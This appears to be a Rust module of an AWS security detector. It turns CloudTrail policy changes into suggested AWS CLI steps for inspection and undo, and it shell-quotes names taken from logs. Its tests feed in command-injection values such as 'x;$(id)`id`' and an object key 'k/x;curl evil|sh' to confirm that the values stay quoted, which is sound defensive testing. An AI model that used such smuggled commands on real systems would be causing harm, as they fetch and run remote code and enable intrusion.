//! What to do first about a change, with the command that shows or undoes it.

use crate::policy_change::calls;
use crate::policy_change::condition::clip;
use crate::policy_change::extract::UNNAMED;
use crate::policy_change::facts::{Change, What};
use crate::policy_change::judge::Judged;
use crate::policy_change::verdict::Code;

/// Commands that show what stands now, by the beginning of the call's name, where the thing alone does not tell.
const LOOKS: [(&str, &str); 30] = [
    ("CreateLoginProfile", "aws iam get-login-profile --user-name {}"),
    ("UpdateLoginProfile", "aws iam get-login-profile --user-name {}"),
    ("DeactivateMFADevice", "aws iam list-mfa-devices --user-name {}"),
    ("EnableMFADevice", "aws iam list-mfa-devices --user-name {}"),
    ("DeleteTrail", "aws cloudtrail describe-trails"),
    ("PutEventSelectors", "aws cloudtrail get-event-selectors --trail-name {}"),
    ("PutInsightSelectors", "aws cloudtrail get-insight-selectors --trail-name {}"),
    ("DeleteFlowLogs", "aws ec2 describe-flow-logs"),
    ("DeleteDetector", "aws guardduty list-detectors"),
    ("StopConfigurationRecorder", "aws configservice describe-configuration-recorder-status"),
    ("DeleteConfigurationRecorder", "aws configservice describe-configuration-recorders"),
    ("DeleteDeliveryChannel", "aws configservice describe-delivery-channels"),
    ("LeaveOrganization", "aws organizations describe-organization"),
    ("DeleteLogGroup", "aws logs describe-log-groups --log-group-name-prefix {}"),
    ("ScheduleKeyDeletion", "aws kms describe-key --key-id {}; aws kms cancel-key-deletion --key-id {}"),
    ("DisableKey", "aws kms describe-key --key-id {}; aws kms enable-key --key-id {}"),
    ("PutBucketLifecycle", "aws s3api get-bucket-lifecycle-configuration --bucket {}"),
    ("PutBucketReplication", "aws s3api get-bucket-replication --bucket {}"),
    ("PutBucketVersioning", "aws s3api get-bucket-versioning --bucket {}"),
    ("PutBucketLogging", "aws s3api get-bucket-logging --bucket {}"),
    ("PutBucketPublicAccessBlock", "aws s3api get-public-access-block --bucket {}"),
    ("DeleteBucketPublicAccessBlock", "aws s3api get-public-access-block --bucket {}"),
    ("PutBucketWebsite", "aws s3api get-bucket-website --bucket {}"),
    ("PutAccountPublicAccessBlock", "aws s3control get-public-access-block --account-id {}"),
    ("DeleteAccountPublicAccessBlock", "aws s3control get-public-access-block --account-id {}"),
    ("CreateTrustAnchor", "aws rolesanywhere list-trust-anchors; aws rolesanywhere list-profiles"),
    ("ModifyDBInstance", "aws rds describe-db-instances --db-instance-identifier {}"),
    ("CreateFunctionUrlConfig", "aws lambda get-function-url-config --function-name {}"),
    ("UpdateFunctionUrlConfig", "aws lambda get-function-url-config --function-name {}"),
    ("ReplaceNetworkAclEntry", "aws ec2 describe-network-acls --network-acl-ids {}"),
];

/// What to do first, with the command that shows or undoes it.
pub(crate) fn next_steps(change: &Change, judged: &Judged) -> Vec<String> {
    let named = clip(&change.id);
    let (head, tail) = named.split_once('/').unwrap_or((&named, ""));
    let (head, tail) = (word(head), if tail.is_empty() { String::new() } else { word(tail) });
    let id = if &*change.id == UNNAMED { format!("<{}>", change.thing.to_uppercase()) } else { word(&named) };
    let by_call = LOOKS.iter().find(|(call, _)| change.evidence.name.starts_with(call));
    let look = match (&*change.thing, &change.what) {
        _ if by_call.is_some() => by_call.map_or_else(String::new, |(_, look)| look.replace("{}", &id)),
        ("role", What::Attach(_) | What::Detach(_)) => {
            format!("aws iam list-attached-role-policies --role-name {id}")
        }
        ("user", What::Attach(_) | What::Detach(_)) => {
            format!("aws iam list-attached-user-policies --user-name {id}")
        }
        ("group", What::Attach(_) | What::Detach(_)) => {
            format!("aws iam list-attached-group-policies --group-name {id}")
        }
        ("role", _) if !tail.is_empty() => {
            format!("aws iam get-role-policy --role-name {head} --policy-name {tail}")
        }
        ("user", _) if !tail.is_empty() => {
            format!("aws iam get-user-policy --user-name {head} --policy-name {tail}")
        }
        ("group", _) if !tail.is_empty() => {
            format!("aws iam get-group-policy --group-name {head} --policy-name {tail}")
        }
        ("role", _) => format!("aws iam get-role --role-name {id}"),
        ("user", _) => format!("aws iam list-access-keys --user-name {id}"),
        ("policy", _) => format!("aws iam list-policy-versions --policy-arn {id}"),
        ("bucket", _) => {
            format!("aws s3api get-bucket-policy --bucket {id}; aws s3api get-bucket-acl --bucket {id}")
        }
        ("object", _) => format!("aws s3api get-object-acl --bucket {head} --key {tail}"),
        ("key", _) => format!("aws kms get-key-policy --key-id {id} --policy-name default"),
        ("function", _) => format!("aws lambda get-policy --function-name {id}"),
        ("queue", _) => format!("aws sqs get-queue-attributes --queue-url {id} --attribute-names Policy"),
        ("topic", _) => format!("aws sns get-topic-attributes --topic-arn {id}"),
        ("snapshot", _) if id.starts_with("snap-") => {
            format!(
                "aws ec2 describe-snapshot-attribute --snapshot-id {id} --attribute createVolumePermission"
            )
        }
        ("snapshot", _) => format!("aws rds describe-db-snapshot-attributes --db-snapshot-identifier {id}"),
        ("image", _) => {
            format!("aws ec2 describe-image-attribute --image-id {id} --attribute launchPermission")
        }
        ("secret", _) => format!("aws secretsmanager get-resource-policy --secret-id {id}"),
        ("security group", _) => {
            format!("aws ec2 describe-security-group-rules --filters Name=group-id,Values={id}")
        }
        ("trail", _) => {
            format!("aws cloudtrail get-trail-status --name {id}; aws cloudtrail start-logging --name {id}")
        }
        ("detector", _) => format!("aws guardduty get-detector --detector-id {id}"),
        ("organization policy", _) => format!("aws organizations describe-policy --policy-id {id}"),
        _ => String::new(),
    };
    let mut steps = Vec::new();
    if !look.is_empty() {
        steps.push(format!("See what stands now: {look}"));
    }
    let public = judged.verdicts.iter().any(|v| matches!(v.code, Code::Public | Code::PublicControl));
    if public && &*change.thing == "bucket" {
        steps.push(format!(
            "Shut it if nobody needs it: aws s3api put-public-access-block --bucket {id} --public-access-block-configuration \
             BlockPublicAcls=true,IgnorePublicAcls=true,BlockPublicPolicy=true,RestrictPublicBuckets=true"
        ));
    }
    if let What::Attach(arn) = &change.what {
        let thing = &change.thing;
        let is_aws_managed = calls::is_aws_managed(arn);
        let arn = word(arn);
        if !is_aws_managed {
            steps.push(format!(
                "Read what it allows: aws iam get-policy-version --policy-arn {arn} --version-id $(aws iam get-policy --policy-arn {arn} --query Policy.DefaultVersionId --output text)"
            ));
        }
        if matches!(&**thing, "role" | "user" | "group") {
            steps.push(format!("Undo: aws iam detach-{thing}-policy --{thing}-name {id} --policy-arn {arn}"));
        }
    }
    let key = &change.evidence.access_key;
    if !key.is_empty() {
        let key = word(key);
        steps.push(format!(
            "See what else the caller did: aws cloudtrail lookup-events --lookup-attributes AttributeKey=AccessKeyId,AttributeValue={key}"
        ));
    }
    steps.push(format!("Ask the owner of {} whether the change was meant", clip(&change.actor)));
    steps
}

/// A word of a command line. Names in logs, keys of objects above all, are chosen by others: what is not plain is quoted.
pub(crate) fn word(text: &str) -> String {
    let is_plain = |b: u8| b.is_ascii_alphanumeric() || b"_+=,.@:/-".contains(&b);
    match text {
        // An option, or nothing at all, whatever the quotes.
        _ if text.is_empty() || text.starts_with('-') => "NAME".to_owned(),
        _ if text.bytes().all(is_plain) => text.to_owned(),
        _ => format!("'{}'", text.replace('\'', r"'\''")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Detector;
    use crate::environment::Environment;
    use crate::policy_change::{Config, PolicyChange};
    use crate::testing::{Call, find_in, teach};
    use crate::time::EventTime;

    #[test]
    fn words_of_a_log_stay_words() {
        for (text, expected) in [
            (
                "arn:aws:iam::111122223333:role/a_b+c=d,e@f-1.2",
                "arn:aws:iam::111122223333:role/a_b+c=d,e@f-1.2",
            ),
            ("a b", "'a b'"),
            ("x;$(id)`id`", "'x;$(id)`id`'"),
            ("x'; id", r"'x'\''; id'"),
            ("-rf", "NAME"),
            ("", "NAME"),
        ] {
            assert_eq!(word(text), expected);
        }
    }

    #[test]
    fn commands_hold_no_shell_syntax_from_a_log() {
        let request = r#"{"bucketName":"b","key":"k/x;curl evil|sh","x-amz-acl":"public-read"}"#;
        let call = Call { request, ..Call::new("s3", "PutObjectAcl", EventTime(1_772_366_400)) };
        let detector = PolicyChange::new(Config::default()).unwrap();
        let found = find_in(&detector, &teach::<PolicyChange>(&[call]), &Environment::default());
        let step = &found[0].next_steps[0];
        assert!(step.ends_with("get-object-acl --bucket b --key 'k/x;curl evil|sh'"), "{step}");
    }
}
